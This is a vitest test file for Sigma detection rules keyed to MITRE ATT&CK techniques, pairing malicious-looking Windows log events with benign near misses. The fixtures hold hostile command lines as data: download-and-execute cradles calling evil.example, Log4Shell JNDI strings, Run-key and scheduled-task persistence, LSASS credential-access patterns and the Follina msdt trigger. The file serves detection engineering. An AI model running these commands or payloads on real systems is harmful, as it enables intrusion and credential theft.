import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { techniqueRules } from '../../src/sigma/technique-rules.ts';
import { type Detection, type LogEvent, matches } from './sigma-match.ts';

const SYSTEM = 'C:\\Windows\\System32\\';
const TEMPORARY = 'C:\\Users\\user\\AppData\\Local\\Temp\\';
const ATTACHMENTS =
  'C:\\Users\\user\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\ABCD1234\\';
const RUN = 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update';

const OUTLOOK = 'C:\\Office\\OUTLOOK.EXE';
const BROWSER = 'C:\\Program Files\\Browser\\chrome.exe';

const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

/** A process of Windows by its program, its arguments, and what started it. */
const started = (program: string, args: string, parent = 'explorer.exe', parentArgs = ''): LogEvent => ({
  Image: program.includes('\\') ? program : SYSTEM + program,
  CommandLine: `${program} ${args}`,
  ParentImage: parent.includes('\\') ? parent : SYSTEM + parent,
  ParentCommandLine: `${parent} ${parentArgs}`,
});

const connection = (program: string, address: string, host = ''): LogEvent => ({
  Image: SYSTEM + program,
  Initiated: 'true',
  DestinationIp: address,
  DestinationHostname: host,
  DestinationPort: 443,
});

const request = (query: string, status: number): LogEvent => ({
  'cs-uri-stem': '/index.jsp',
  'cs-uri-query': query,
  'cs-user-agent': 'Mozilla/5.0',
  'sc-status': status,
  'c-ip': '198.51.100.7',
});

const mark = (file: string, url: string): LogEvent => ({
  TargetFilename: `C:\\Users\\user\\Downloads\\${file}:Zone.Identifier`,
  Contents: `[ZoneTransfer]  ZoneId=3  HostUrl=${url}`,
});

const lsass = (source: string, rights: string): LogEvent => ({
  SourceImage: source,
  TargetImage: `${SYSTEM}lsass.exe`,
  GrantedAccess: rights,
});

/** For each technique: what its rule must find, and what comes near and happens every day. */
const CASES: Record<string, { fires: LogEvent[]; silent: LogEvent[] }> = {
  T1105: {
    fires: [
      started('certutil.exe', '/urlcache /f http://evil.example/a.exe a.exe'),
      started('bitsadmin.exe', '/transfer job https://evil.example/a C:\\a.exe'),
      started('curl.exe', `-o ${TEMPORARY}a.exe https://evil.example/a.exe`),
    ],
    silent: [
      started('certutil.exe', '-hashfile a.exe SHA256'),
      started('certutil.exe', '-urlcache http://pki.example/ca.crl'),
      started('curl.exe', 'https://example.com/'),
    ],
  },
  'T1204.002': {
    fires: [
      started(`${TEMPORARY}7zO4C1A\\invoice.exe`, ''),
      started(`${TEMPORARY}1a2b_invoice.zip.a2b\\invoice.exe`, ''),
      started('wscript.exe', `"${ATTACHMENTS}invoice.js"`, 'outlook.exe'),
      started('C:\\Users\\user\\Desktop\\invoice.pdf.exe', ''),
    ],
    silent: [
      started('rundll32.exe', `"C:\\Windows\\PhotoViewer.dll", ImageView_Fullscreen ${ATTACHMENTS}a.jpg`),
      started(`${TEMPORARY}setup.exe`, ''),
    ],
  },
  'T1059.001': {
    fires: [
      started('powershell.exe', `-nop -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('x')")}`),
      started('powershell.exe', '-c "iwr http://evil.example/a.ps1 | iex"'),
    ],
    silent: [
      started('powershell.exe', `-EncodedCommand ${encoded('Get-Service | Sort-Object Status')}`),
      started('powershell.exe', '-c "Invoke-WebRequest https://example.com -OutFile a.zip"'),
      started('powershell.exe', '-c "iex (iwr https://community.chocolatey.org/install.ps1)"'),
    ],
  },
  'T1566.001': {
    fires: [{ Image: 'C:\\Office\\OUTLOOK.EXE', TargetFilename: `${ATTACHMENTS}invoice.hta` }],
    silent: [
      { Image: 'C:\\Office\\OUTLOOK.EXE', TargetFilename: `${ATTACHMENTS}invoice.pdf` },
      { Image: `${SYSTEM}svchost.exe`, TargetFilename: `${ATTACHMENTS}invoice.hta` },
    ],
  },
  'T1566.002': {
    fires: [
      started(BROWSER, '-- http://evil.example/invoice.zip', OUTLOOK),
      started(BROWSER, '--single-argument https://evil.example/update.js"', OUTLOOK),
    ],
    silent: [
      started(BROWSER, '-- https://example.com/', OUTLOOK),
      started(BROWSER, '-- https://download.microsoft.com/tool.exe', OUTLOOK),
      started(BROWSER, '-- http://evil.example/invoice.zip'),
    ],
  },
  'T1059.003': {
    fires: [
      started('cmd.exe', '/c powershell -w hidden', 'mshta.exe', 'http://evil.example/a.hta'),
      started('cmd.exe', '/Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1', 'wbem\\WmiPrvSE.exe'),
    ],
    silent: [
      started('cmd.exe', '/c powershell -File a.ps1'),
      started('cmd.exe', '/c powershell a', 'wscript.exe', '\\\\example.com\\SYSVOL\\logon.vbs'),
    ],
  },
  'T1036.005': {
    fires: [started('C:\\ProgramData\\svchost.exe', ''), started('C:\\Windows\\Temp\\lsass.exe', '')],
    silent: [
      started('svchost.exe', '-k netsvcs'),
      started('C:\\Windows\\explorer.exe', ''),
      started(`${SYSTEM}wbem\\WmiPrvSE.exe`, ''),
    ],
  },
  'T1071.001': {
    fires: [connection('mshta.exe', '198.51.100.7'), connection('rundll32.exe', '2001:db8::7')],
    silent: [
      connection('rundll32.exe', '192.168.1.7'),
      connection('rundll32.exe', '198.51.100.7', 'wns.windows.com'),
      connection('svchost.exe', '198.51.100.7'),
    ],
  },
  'T1547.001': {
    fires: [
      { Image: 'C:\\a.exe', TargetObject: RUN, Details: 'mshta.exe http://evil.example/a' },
      { Image: 'C:\\a.exe', TargetObject: RUN, Details: 'C:\\Users\\Public\\update.exe' },
    ],
    silent: [
      { Image: 'C:\\a.exe', TargetObject: RUN, Details: '"C:\\Program Files\\Example\\tray.exe" /start' },
      {
        Image: 'C:\\a.exe',
        TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\wextract_cleanup0',
        Details: `rundll32.exe ${SYSTEM}advpack.dll,DelNodeRunDLL32 "${TEMPORARY}IXP000.TMP\\"`,
      },
    ],
  },
  T1082: {
    fires: [
      started('cmd.exe', '/c systeminfo > %TEMP%\\s.txt'),
      started('systeminfo.exe', '', 'wscript.exe', `${TEMPORARY}a.js`),
    ],
    silent: [
      started('systeminfo.exe', '', 'cmd.exe'),
      started('systeminfo.exe', '', 'cscript.exe', '\\\\example.com\\NETLOGON\\inventory.vbs'),
    ],
  },
  'T1053.005': {
    fires: [started('schtasks.exe', '/create /tn Update /tr "C:\\Users\\Public\\a.exe" /sc onlogon')],
    silent: [
      started('schtasks.exe', '/query /tn Update /v'),
      started('schtasks.exe', '/create /tn Backup /tr "C:\\Program Files\\Example\\backup.exe" /sc daily'),
      started('schtasks.exe', '/create /tn Update /tr C:\\ProgramData\\a.exe', 'msiexec.exe'),
    ],
  },
  T1083: {
    fires: [
      started('cmd.exe', '/c dir C:\\Users /s /b > C:\\Users\\Public\\l.txt'),
      started('cmd.exe', '/c dir /s /b %USERPROFILE%\\*.kdbx'),
    ],
    silent: [
      started('cmd.exe', '/c dir C:\\Users'),
      started('cmd.exe', `/c dir /s /b src > ${TEMPORARY}l.txt`, 'C:\\nodejs\\node.exe'),
    ],
  },
  'T1204.001': {
    fires: [mark('invoice.iso', 'https://evil.example/invoice.iso'), mark('update.js', 'about:internet')],
    silent: [
      mark('debian.iso', 'https://cdimage.debian.org/debian.iso'),
      mark('invoice.pdf', 'https://evil.example/invoice.pdf'),
      mark('data.json', 'https://evil.example/data.json'),
    ],
  },
  'T1070.004': {
    fires: [started('cmd.exe', '/c ping 127.0.0.1 -n 3 > nul & del "C:\\Users\\user\\a.exe"')],
    silent: [
      started('cmd.exe', '/c del a.txt'),
      started('cmd.exe', '/c timeout /t 3 & del a.exe', 'C:\\Program Files\\Example\\uninstall.exe'),
    ],
  },
  'T1059.005': {
    fires: [
      started('wscript.exe', `"${TEMPORARY}invoice.vbs"`),
      started('cscript.exe', '//e:vbscript C:\\Users\\Public\\a.txt'),
    ],
    silent: [
      started('cscript.exe', '//nologo C:\\Windows\\System32\\slmgr.vbs /dli'),
      started('wscript.exe', '"C:\\ProgramData\\Example\\inventory.vbs"', 'gpscript.exe'),
    ],
  },
  'T1003.001': {
    fires: [lsass(`${TEMPORARY}a.exe`, '0x1010'), lsass(`${SYSTEM}rundll32.exe`, '0x1FFFFF')],
    silent: [
      lsass(`${SYSTEM}wininit.exe`, '0x1FFFFF'),
      lsass('C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe', '0x1410'),
      lsass(`${SYSTEM}taskhostw.exe`, '0x1000'),
    ],
  },
  T1016: {
    fires: [
      started('cmd.exe', '/c ipconfig /all >> C:\\ProgramData\\n.txt'),
      started('ipconfig.exe', '/all', 'mshta.exe', 'http://evil.example/a.hta'),
    ],
    silent: [
      started('ipconfig.exe', '/all', 'cmd.exe'),
      started('ipconfig.exe', '/flushdns', 'wscript.exe', `${TEMPORARY}a.vbs`),
    ],
  },
  T1190: {
    fires: [
      request('x=${jndi:ldap://evil.example/a}', 200),
      { ...request('', 302), 'cs-user-agent': '${${::-j}ndi:rmi://evil.example/a}' },
      { ...request('', 200), 'cs-uri-stem': '/cgi-bin/.%2e/.%2e/bin/sh' },
    ],
    silent: [request('x=${jndi:ldap://evil.example/a}', 404), request('q=learn+powershell', 200)],
  },
  T1203: {
    fires: [
      started('C:\\Users\\user\\a.exe', '', 'C:\\Office\\EQNEDT32.EXE'),
      started('msdt.exe', 'ms-msdt:/id PCWDiagnostic', 'C:\\Office\\WINWORD.EXE'),
    ],
    silent: [
      started('cmd.exe', '/d /c "host.exe" < \\\\.\\pipe\\chrome.nativeMessaging.in.1', 'C:\\chrome.exe'),
      started('WerFault.exe', '-u -p 1', 'C:\\Office\\EQNEDT32.EXE'),
      started('splwow64.exe', '12288', 'C:\\Office\\WINWORD.EXE'),
    ],
  },
  T1057: {
    fires: [
      started('cmd.exe', '/c tasklist /svc > %TEMP%\\p.txt'),
      started('wbem\\wmic.exe', 'process list brief', 'wscript.exe', `${TEMPORARY}a.js`),
    ],
    silent: [
      started('tasklist.exe', '/svc', 'cmd.exe'),
      started('tasklist.exe', '/FI "IMAGENAME eq example.exe"', 'wscript.exe', `${TEMPORARY}a.vbs`),
    ],
  },
  T1018: {
    fires: [
      started('cmd.exe', '/c for /l %i in (1,1,254) do @ping -n 1 192.0.2.%i'),
      started('net.exe', ' group "Domain Computers" /domain'),
      started('nltest.exe', '-dclist:example'),
    ],
    silent: [
      started('ping.exe', '192.0.2.1'),
      started('net.exe', 'view \\\\server.example'),
      started('net1.exe', 'group "Domain Computers" /domain', 'net.exe'),
    ],
  },
};

describe.each(Object.entries(CASES))('the rule for %s', (id, { fires, silent }) => {
  const { detection } = parse(techniqueRules().get(id)?.text ?? '') as { detection: Detection };

  it.each(fires)('matches %j', (event) => {
    expect(matches(detection, event)).toBe(true);
  });

  it.each(silent)('does not match %j', (event) => {
    expect(matches(detection, event)).toBe(false);
  });
});
